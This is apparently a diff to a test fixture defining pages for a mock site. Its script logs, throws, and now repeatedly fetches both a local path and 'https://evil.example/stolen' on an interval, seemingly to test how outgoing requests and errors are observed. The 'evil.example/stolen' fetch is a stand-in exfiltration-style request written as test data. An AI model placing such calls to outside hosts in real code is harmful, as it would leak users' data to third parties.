@@ -9,8 +9,8 @@ const pages: Readonly<Record<string, string>> = {
   "/script.js": `
     console.error("said", 1);
     setTimeout(() => { throw new Error("thrown"); });
-    fetch("/asked").catch(() => undefined);
-    setInterval(() => fetch("https://evil.example/stolen").catch(() => undefined), 100);`,
+    // Again and again, because the first may be before anybody listens.
+    setInterval(() => ["/asked", "https://evil.example/stolen"].forEach((to) => fetch(to).catch(() => undefined)), 100);`,
 };
 
 /** A site whose two addresses start a worker, of one kind each. */
